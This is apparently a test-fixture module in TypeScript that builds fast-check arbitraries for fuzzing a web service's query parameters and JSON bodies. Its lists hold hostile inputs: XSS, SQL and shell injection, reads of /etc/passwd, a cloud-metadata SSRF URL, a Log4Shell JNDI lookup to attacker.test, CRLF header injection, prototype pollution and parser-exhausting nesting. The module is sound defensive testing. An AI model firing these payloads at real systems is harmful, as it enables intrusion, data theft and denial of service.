import fc from 'fast-check';
import { anyCharacter } from './any-character.js';

const SCRIPT = '<script>alert(1)</script>';

/** What attackers put into a parameter, and what mistakes do. */
const KNOWN = [
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  '0x10',
  '9007199254740993',
  '-1',
  'true',
  '__proto__',
  'constructor',
  'toString',
  SCRIPT,
  `"><img src=x onerror=alert(1)>`,
  `javascript:alert(1)`,
  `' OR 1=1 --`,
  '; DROP TABLE usage; --',
  '$(reboot)',
  '`reboot`',
  '| cat /etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  '{{7*7}}',
  '${7*7}',
  '${jndi:ldap://attacker.test/a}',
  '{"$gt":""}',
  '=cmd|"/c calc"!A1',
  'a\r\nSet-Cookie: stolen=1',
  'a\r\n\r\n<html>',
  'a\0b',
  '\u001B[31mred',
  '\u2028\u2029\u202E',
  'İıſK',
  '\u{1F600}'.repeat(100),
  'Zalgo\u0300\u0301\u0302\u0303'.repeat(50),
  'a'.repeat(5000),
  '('.repeat(2000),
  '1,'.repeat(2000),
];

/** Percent-encodings that do not decode, decode to what is no text, or decode twice. */
const ODD_ENCODINGS = [
  '%',
  '%zz',
  '%00',
  '%0d%0aX-Injected:1',
  '%c0%af',
  '%ed%a0%80',
  '%252e%252e',
  '%u0041',
  '+',
  '%2B',
  ';',
  '#',
  '?',
];

/** A value of a parameter, as it goes into a URL. */
export const anyEncodedValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...KNOWN).map(encodeURIComponent),
  fc.constantFrom(...ODD_ENCODINGS),
  fc.string({ unit: 'grapheme', maxLength: 40 }).map(encodeURIComponent),
  fc.string({ unit: 'binary-ascii', maxLength: 40 }).map(encodeURIComponent),
  fc.integer().map(String),
  fc.double().map(String),
);

/** The name of a parameter: one of `known`, or one as odd as a value, in whatever syntax there is for lists and objects. */
export const anyName = (known: readonly string[]): fc.Arbitrary<string> =>
  fc
    .tuple(
      known.length > 0 ? fc.oneof(fc.constantFrom(...known), anyEncodedValue) : anyEncodedValue,
      fc.constantFrom('', '', '', '[]', '[0]', '[__proto__]', '[a][b]', '.a', '%5B%5D'),
    )
    .map(([name, suffix]) => `${name.replace(/[#&=?]/g, '')}${suffix}`);

const anyKey = fc.oneof(
  fc.constantFrom(
    'messages',
    'text',
    'report_id',
    'rate_card',
    'id',
    'title',
    'rules',
    'rule',
    '__proto__',
    'constructor',
    'toString',
    'length',
    '0',
  ),
  fc.string({ maxLength: 10 }),
);

/** JSON of any shape, with keys that the routes know and keys that every object has. */
export const anyJsonValue = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 5, withCrossShrink: true },
    fc.constantFrom(...KNOWN, null, true, false, 0, -1, 1.5, Number.MAX_VALUE, 'standard', 'base_cost'),
    fc.string({ unit: anyCharacter, maxLength: 30 }),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(anyKey, tie('value'), { maxKeys: 5 }),
  ),
})).value;

const deep = (open: string, close: string, depth: number): string => `${open.repeat(depth)}0${close.repeat(depth)}`;

/** What JSON.stringify cannot write: keys that repeat, prototypes, depths and lengths, and what is no JSON. */
export const ODD_BODIES: readonly string[] = [
  '',
  'null',
  '{',
  '[]',
  '"text"',
  '{"messages":[{"text":"a"}],"messages":0}',
  '{"messages":[{"text":"a","text":{}}]}',
  '{"__proto__":{"messages":[]},"constructor":{"prototype":{"polluted":1}}}',
  '{"messages":{"__proto__":[]}}',
  '{"messages":[{"__proto__":{"text":"a"}}]}',
  `{"messages":${deep('[', ']', 50_000)}}`,
  `{"messages":[${deep('{"text":', '}', 50_000)}]}`,
  deep('{"rules":[', ']}', 30_000),
  `{"messages":[${'{},'.repeat(100_000)}{}]}`,
  `{"messages":[${'[],'.repeat(100_000)}[]]}`,
  `{"id":"a","title":"a","rules":[${'{"rule":"base_cost"},'.repeat(20_000)}{}]}`,
  `{"id":"a","title":"a","rules":[{"rule":"${SCRIPT}"}]}`,
  `{"messages":[{"text":1e400}]}`,
  `{"messages":[{"text":"\\ud800"}],"rate_card":"\\ud800"}`,
  `{"rate_card":"${SCRIPT}","messages":[]}`,
];
